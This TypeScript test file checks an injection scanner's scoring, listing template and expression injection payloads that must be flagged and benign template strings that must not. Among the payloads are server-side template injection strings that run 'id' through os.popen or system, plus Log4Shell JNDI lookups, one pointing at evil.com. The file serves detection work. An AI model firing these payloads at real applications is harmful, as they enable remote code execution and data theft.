// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  '{%- debug -%}',
  '{{_self}}',
  '@System.IO.File.ReadAllText("x")',
  '${applicationScope}',
  '${dns:address|example.net}',
  '${script:javascript:1+1}',
  "%{'a'+7*191}",
  '{{ .System "ls" }}',
  '{% load log %}{% get_admin_log 10 as log %}',
  '${jndi:ldap://evil.com/a}',
  '${${lower:j}ndi:${lower:l}dap://x}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
  '${j${k8s:k5:-ND}i:ldap://x}',
  '{{7*7}}',
  "{{7*'7'}}",
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  '@(7*7)',
  '{{config}}',
  "{{''.__class__.__mro__[2].__subclasses__()}}",
  "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}',
  "{{['id']|filter('system')}}",
  '{{_self.env.registerUndefinedFilterCallback("exec")}}',
  "{system('id')}",
  '{$smarty.version}',
  '<#assign ex="freemarker.template.utility.Execute"?new()>',
  "#set($x='')##$x.class.forName('java.lang.Runtime')",
  "<%= system('id') %>",
  "{{constructor.constructor('alert(1)')()}}",
  '#{root.process.mainModule}',
  '<!--#exec cmd="id"-->',
  '<esi:include src="http://x/"/>',
]

const harmless: readonly string[] = [
  '${pageContext.request.contextPath}/home',
  '{{ .Values.image }}',
  '{% load static %}',
  '${url}',
  '{{ user.name }}',
  'Hello {{name}}, your order {{order.id}} has shipped',
  '${name}',
  '{{#if user}}Hi{{/if}}',
  '{% if x %}a{% endif %}',
  "{{ 'text' | translate }}",
  '{1,3}',
  '\\d{2,4}-\\d{3}',
  'contact @john (work)',
  'x = {a: 1, b: 2}',
  '{{ "a" | upper }}',
  'Result: {{count}} of {{total}}',
  '__init__ method in Python',
  '<!-- a comment -->',
  'name: ${{ github.ref }}',
]

describe('template and expression injections', () => {
  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('template', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})
